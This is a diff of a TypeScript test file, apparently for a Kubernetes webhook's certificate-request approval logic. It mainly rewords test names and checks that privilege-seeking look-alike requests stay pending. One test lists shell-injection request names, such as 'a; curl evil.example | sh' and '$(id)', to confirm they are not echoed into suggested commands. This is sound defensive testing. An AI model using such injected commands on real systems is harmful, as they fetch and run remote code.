@@ -48,14 +48,14 @@ const namesOf = (requests: readonly CertificateRequest[]) => requests.map(({ met
 const approved = { conditions: [{ type: 'Approved' }] }
 const issued = { ...approved, certificate: 'LS0t' }
 
-describe('the request that the webhook makes', () => {
+describe('the request of the webhook', () => {
   it('is approved', async () => {
     const request = certificateRequest(right)
     expect(await differencesFrom(request, requestNamespace)).toEqual([])
     expect(await decideApprovals([request], webhook)).toEqual({ approve: [request], leftPending: [], unsigned: [] })
   })
 
-  it('is approved whatever the order of groups, usages and names, and with what a bound token adds', async () => {
+  it('is approved whatever the order of groups, usages and names, and with the extra fields of a bound token', async () => {
     const request = certificateRequest(await pkcs10({ extensions: [dnsExtension(rightNames.toReversed())] }), {
       usages: ['server auth', 'digital signature', 'key encipherment'],
       groups: ['system:authenticated', 'system:serviceaccounts:workload-identity-webhook', 'system:serviceaccounts'],
@@ -64,13 +64,13 @@ describe('the request that the webhook makes', () => {
     expect(await differencesFrom(request, requestNamespace)).toEqual([])
   })
 
-  it('is read up to 4096 characters, white space included', async () => {
+  it('is refused from 4097 characters on, white space included', async () => {
     const padded = (length: number) => pkcs10({ rewrap: (pem) => pem.padEnd(length) })
     expect(await differencesFrom(certificateRequest(await padded(4096)), requestNamespace)).toEqual([])
     expect(await differencesFrom(certificateRequest(await padded(4097)), requestNamespace)).toHaveLength(1)
   })
 
-  it('may have its attribute written by hand', async () => {
+  it('is approved with an attribute that this test encodes', async () => {
     const request = certificateRequest(await pkcs10({ extensions: [], attributes: [namesAttribute(1)] }))
     expect(await differencesFrom(request, requestNamespace)).toEqual([])
   })
@@ -78,7 +78,7 @@ describe('the request that the webhook makes', () => {
 
 const challenge = new Attribute('1.2.840.113549.1.9.7', [Buffer.from([0x13, 1, 0x61])])
 
-/** The attribute of the right request, with its one value as often as said. */
+/** The attribute of the right request, with `count` copies of its value. */
 function namesAttribute(count: number): Attribute {
   const names = Buffer.from(dnsExtension(rightNames).rawData)
   const extensions = Buffer.concat([Buffer.from([0x30, 0x81, names.length]), names])
@@ -91,7 +91,7 @@ function namesAttribute(count: number): Attribute {
 const dns = (value: string) => ({ type: 'dns', value }) as const
 const rightCommonName = 'pod-identity-webhook.workload-identity-webhook.svc'
 
-/** Each departs from the right request in one thing. */
+/** Each differs from the right request in one field. */
 const deviations: readonly (readonly [string, Pkcs10Parts, string])[] = [
   ['an organisation', { name: [{ CN: [rightCommonName] }, { O: ['system:masters'] }] }, 'its subject is not just'],
   ['an organisation before', { name: [{ O: ['system:masters'] }, { CN: [rightCommonName] }] }, 'its subject'],
@@ -101,8 +101,12 @@ const deviations: readonly (readonly [string, Pkcs10Parts, string])[] = [
   ['the common name of another namespace', { name: [{ CN: ['pod-identity-webhook.default.svc'] }] }, 'its subject'],
   ['a common name in other case', { name: [{ CN: [rightCommonName.toUpperCase()] }] }, 'its subject'],
   ['no subject', { name: [] }, 'its subject'],
-  ['one name more', { extensions: [dnsExtension([...rightNames, 'kubernetes.default.svc'])] }, 'its alternative names'],
-  ['one name less', { extensions: [dnsExtension(rightNames.slice(1))] }, 'its alternative names'],
+  [
+    'an additional name',
+    { extensions: [dnsExtension([...rightNames, 'kubernetes.default.svc'])] },
+    'its alternative names',
+  ],
+  ['a missing name', { extensions: [dnsExtension(rightNames.slice(1))] }, 'its alternative names'],
   ['one name twice', { extensions: [dnsExtension([...rightNames, rightCommonName])] }, 'its alternative names'],
   ['another name', { extensions: [dnsExtension([...rightNames.slice(1), 'kubernetes'])] }, 'its alternative names'],
   ['a wildcard', { extensions: [dnsExtension([...rightNames.slice(1), '*.svc'])] }, 'its alternative names'],
@@ -138,7 +142,7 @@ const deviations: readonly (readonly [string, Pkcs10Parts, string])[] = [
   ['no extension', { extensions: [] }, 'it asks for more, or less'],
   ['no names', { extensions: [new BasicConstraintsExtension(false)] }, 'it has no alternative names'],
   [
-    'the wish to be an authority',
+    'the extension of a CA',
     { extensions: [dnsExtension(rightNames), new BasicConstraintsExtension(true, 0, true)] },
     'it asks for more',
   ],
@@ -148,8 +152,12 @@ const deviations: readonly (readonly [string, Pkcs10Parts, string])[] = [
     'it asks for more',
   ],
   ['the names twice', { extensions: [dnsExtension(rightNames), dnsExtension(rightNames)] }, 'it asks for more'],
-  ['one attribute more', { attributes: [challenge] }, 'it asks for more'],
-  ['one attribute more behind', { extensions: [], attributes: [namesAttribute(1), challenge] }, 'it asks for more'],
+  ['an additional attribute', { attributes: [challenge] }, 'it asks for more'],
+  [
+    'an additional attribute at the end',
+    { extensions: [], attributes: [namesAttribute(1), challenge] },
+    'it asks for more',
+  ],
   ['an attribute of two values', { extensions: [], attributes: [namesAttribute(2)] }, 'it asks for more'],
   ['a key of P-384', { key: { ...ecKey, namedCurve: 'P-384' } }, 'its key is not ECDSA P-256'],
   ['a digest of SHA-384', { hash: 'SHA-384' }, 'its signature is not ECDSA with SHA-256'],
@@ -187,40 +195,44 @@ const envelopes: readonly (readonly [string, Partial<CertificateRequest['spec']>
     { username: 'system:serviceaccount:default:pod-identity-webhook' },
     'it was made',
   ],
-  ['an administrator', { username: 'kubernetes-admin' }, 'it was made by "kubernetes-admin"'],
-  ['nobody', { username: '' }, 'it was made by ""'],
+  ['the user name of an administrator', { username: 'kubernetes-admin' }, 'it was made by "kubernetes-admin"'],
+  ['no user name', { username: '' }, 'it was made by ""'],
   [
-    'one group more',
+    'an additional group',
     { groups: [...(certificateRequest('').spec.groups ?? []), 'system:masters'] },
     'exactly the groups',
   ],
-  ['one group less', { groups: ['system:authenticated'] }, 'exactly the groups'],
+  ['a missing group', { groups: ['system:authenticated'] }, 'exactly the groups'],
   ['no group', { groups: [] }, 'exactly the groups'],
   ['extra of an impersonation', { extra: { scopes: ['all'] } }, 'carries more'],
   ['the signer of clients', { signerName: 'kubernetes.io/kube-apiserver-client' }, 'it asks the signer'],
   ['the signer of kubelets', { signerName: 'kubernetes.io/kubelet-serving' }, 'it asks the signer'],
-  ['a usage more', { usages: ['digital signature', 'key encipherment', 'server auth', 'client auth'] }, 'its usages'],
-  ['a usage less', { usages: ['server auth'] }, 'its usages'],
+  [
+    'an additional usage',
+    { usages: ['digital signature', 'key encipherment', 'server auth', 'client auth'] },
+    'its usages',
+  ],
+  ['a missing usage', { usages: ['server auth'] }, 'its usages'],
   ['another usage', { usages: ['digital signature', 'key encipherment', 'client auth'] }, 'its usages'],
   ['a usage twice', { usages: ['digital signature', 'key encipherment', 'server auth', 'server auth'] }, 'its usages'],
   ['a lifetime', { expirationSeconds: 3600 }, 'it asks for a lifetime'],
 ]
 
 describe('a look-alike', () => {
-  it.each(deviations)('with %s is left pending, and it is said what differs', async (_name, parts, phrase) => {
+  it.each(deviations)('with %s is left pending, and the reason names the difference', async (_name, parts, phrase) => {
     const request = certificateRequest(await pkcs10(parts))
     const decision = await decideApprovals([request], webhook)
     expect(decision.approve).toEqual([])
     expect(decision.leftPending).toEqual([{ name: 'csr-right', why: expect.stringContaining(phrase) }])
   })
 
-  it.each(envelopes)('by or for %s is left pending, and it is said what differs', async (_name, spec, phrase) => {
+  it.each(envelopes)('with %s is left pending, and the reason names the difference', async (_name, spec, phrase) => {
     const decision = await decideApprovals([certificateRequest(right, spec)], webhook)
     expect(decision.approve).toEqual([])
     expect(decision.leftPending).toEqual([{ name: 'csr-right', why: expect.stringContaining(phrase) }])
   })
 
-  it('is never approved, whatever one field of it becomes', async () => {
+  it('is never approved when one field has another value', async () => {
     const fields = {
       username: fc.string(),
       signerName: fc.string(),
@@ -243,7 +255,7 @@ describe('a look-alike', () => {
     )
   })
 
-  it('is never approved, whichever byte of what it signs, or of how, becomes another', async () => {
+  it('is never approved when one byte of its signed part or of its signature algorithm differs', async () => {
     const original = new Pkcs10CertificateRequest(Buffer.from(right, 'base64').toString())
     const der = Buffer.from(original.rawData)
     const signed = der.length - original.signature.byteLength
@@ -259,7 +271,7 @@ describe('a look-alike', () => {
     )
   })
 
-  it('of other people that asks for other names is none, and is not named', async () => {
+  it('of another account for other names is not reported', async () => {
     const kubelet = certificateRequest(
       await pkcs10({ name: [{ CN: ['system:node:a'] }, { O: ['system:nodes'] }], extensions: [dnsExtension(['a'])] }),
       { username: 'system:node:a', groups: ['system:nodes'], signerName: 'kubernetes.io/kubelet-serving' },
@@ -276,7 +288,7 @@ describe('a look-alike', () => {
         extensions: [new BasicConstraintsExtension(false), dnsExtension(['a', `${rightCommonName}`])],
       },
     ],
-  ])('of other people that asks for %s is named', async (_, parts) => {
+  ])('of another account for %s is reported', async (_, parts) => {
     const foreign = certificateRequest(await pkcs10(parts), { username: 'system:node:a' })
     expect((await decideApprovals([foreign], webhook)).leftPending).toMatchObject([{ name: 'csr-right' }])
   })
@@ -295,12 +307,12 @@ describe('a look-alike', () => {
       'names that cannot be read',
       { name: [], extensions: [new Extension('2.5.29.17', false, Buffer.from([0x05, 0x00]))] },
     ],
-  ])('of other people that asks for %s is not named', async (_, parts) => {
+  ])('of another account for %s is not reported', async (_, parts) => {
     const foreign = certificateRequest(await pkcs10(parts), { username: 'system:node:a' })
     expect((await decideApprovals([foreign], webhook)).leftPending).toEqual([])
   })
 
-  it('that somebody approved or denied by hand is not our business', async () => {
+  it('that was approved or denied by hand is ignored', async () => {
     const foreign = { username: 'kubernetes-admin' }
     const requests = [
       certificateRequest(right, foreign, { status: { conditions: [{ type: 'Denied' }] } }),
@@ -313,7 +325,7 @@ describe('a look-alike', () => {
 describe('the name of a request', () => {
   const names = ['a; curl evil.example | sh', '$(id)', 'a\u001b[2J', 'x'.repeat(254)]
 
-  it.each(names)('that is not one word of a shell is not shown: %j', async (name) => {
+  it.each(names)('is not shown if a shell could read it as more than one word: %j', async (name) => {
     const denied = { conditions: [{ type: 'Denied' }] }
     const { refused } = await decideApprovals([named(name, 0, denied)], webhook)
     expect(refused?.action).toMatch(/^See why with kubectl describe csr unnamed, then run kubectl delete csr unnamed,/)
@@ -327,14 +339,14 @@ describe('the name of a request', () => {
     expect((await decideApprovals([named(name, 0, approved)], webhook)).unsigned).toEqual([name])
   })
 
-  it('does not keep a request from being deleted when it is left over', () => {
+  it('does not prevent the deletion of a left-over request', () => {
     const left = leftOverRequests([named('a b', 0, issued)], { namespace: requestNamespace, mode: 'csr' })
     expect(left).toEqual(['a b'])
   })
 })
 
-describe('how many', () => {
-  it('of those that stay pending are named, since anybody may make thousands', async () => {
+describe('the number of requests', () => {
+  it('in a reason is at most 20, because others may create thousands', async () => {
     const requests = Array.from({ length: 1000 }, (_, index) =>
       certificateRequest(right, { username: 'anybody' }, { metadata: { name: `csr-${index}`.padEnd(250, 'x') } }),
     )
@@ -344,26 +356,26 @@ describe('how many', () => {
     expect((await decideApprovals(requests.slice(0, 20), webhook)).leftPending).toHaveLength(20)
   })
 
-  it('one for each replica, the newest first, and no more until those are signed', async () => {
+  it('to approve is one for each replica, the newest first, until those are signed', async () => {
     const requests = [named('csr-1', 1), named('csr-3', 3), named('csr-2', 2)]
     const decision = await decideApprovals(requests, webhook)
     expect(namesOf(decision.approve)).toEqual(['csr-3', 'csr-2'])
     expect(decision.leftPending).toEqual([{ name: 'csr-1', why: expect.stringContaining('are being signed first') }])
   })
 
-  it('those that are approved and not yet signed count', async () => {
+  it('to approve is reduced by those that are approved and not signed yet', async () => {
     const decision = await decideApprovals([named('a', 1), named('b', 2), named('c', 3, approved)], webhook)
     expect(namesOf(decision.approve)).toEqual(['b'])
     expect(decision.unsigned).toEqual(['c'])
   })
 
-  it('those that are signed do not count: a replica that starts again asks again', async () => {
+  it('to approve is not reduced by signed ones, because a restarted replica sends another request', async () => {
     const decision = await decideApprovals([named('a', 3), named('b', 2, issued), named('c', 1, issued)], webhook)
     expect(namesOf(decision.approve)).toEqual(['a'])
   })
 })
 
-it('a look-alike that differs in two things is told both', async () => {
+it('reports each difference of a look-alike, and cuts long names', async () => {
   const request = certificateRequest(right, { username: 'x'.repeat(200), expirationSeconds: 60 })
   const maker = `"${'x'.repeat(100)}"`
   expect((await decideApprovals([request], webhook)).leftPending).toEqual([
@@ -374,13 +386,13 @@ it('a look-alike that differs in two things is told both', async () => {
   ])
 })
 
-it('a request without a maker is told to be of nobody', async () => {
+it('reports a request without a user name', async () => {
   const { username: _, ...spec } = certificateRequest(right).spec
   const request = { spec }
   expect(await differencesFrom(request, requestNamespace)).toEqual([expect.stringContaining('it was made by ""')])
 })
 
-describe('what is left over', () => {
+describe('the left-over requests', () => {
   const requests = [
     named('pending'),
     named('approved', 0, approved),
@@ -389,20 +401,20 @@ describe('what is left over', () => {
     certificateRequest('', { username: 'system:node:a' }, { metadata: { name: 'kubelet' }, status: issued }),
   ]
 
-  it('is in csr mode what is signed or refused', () => {
+  it('in csr mode are the signed and the denied ones', () => {
     const left = leftOverRequests(requests, { namespace: requestNamespace, mode: 'csr' })
     expect(left).toEqual(['issued', 'denied'])
   })
 
-  it('is all with a certificate of ours, and never what others asked for', () => {
+  it('in own-ca mode are all of the webhook’s account, and none of another account', () => {
     const left = leftOverRequests(requests, { namespace: requestNamespace, mode: 'own-ca' })
     expect(left).toEqual(['pending', 'approved', 'issued', 'denied'])
     expect(leftOverRequests(requests, { namespace: 'elsewhere', mode: 'own-ca' })).toEqual([])
   })
 })
 
-describe('a request that was refused', () => {
-  it('is an error when it was denied, which names it and what to do', async () => {
+describe('a refused request', () => {
+  it('is an error when it was denied: the error names it and the command that deletes it', async () => {
     const decision = await decideApprovals([named('csr-x', 1, { conditions: [{ type: 'Denied' }] })], webhook)
     expect(decision.refused).toMatchObject({
       object: 'CertificateSigningRequest csr-x',
@@ -411,13 +423,13 @@ describe('a request that was refused', () => {
     })
   })
 
-  it('is an error when the signer failed on it', async () => {
+  it('is an error when the signer failed to sign it', async () => {
     const status = { conditions: [{ type: 'Approved' }, { type: 'Failed' }] }
     const decision = await decideApprovals([named('csr-x', 1, status)], webhook)
     expect(decision.refused).toMatchObject({ reason: 'the signer of the cluster could not sign it' })
   })
 
-  it('is history once the webhook has asked again', async () => {
+  it('is ignored when the webhook has sent a newer request', async () => {
     const denied = named('csr-old', 1, { conditions: [{ type: 'Denied' }] })
     const decision = await decideApprovals([denied, named('csr-new', 2)], webhook)
     expect(decision.refused).toBeUndefined()
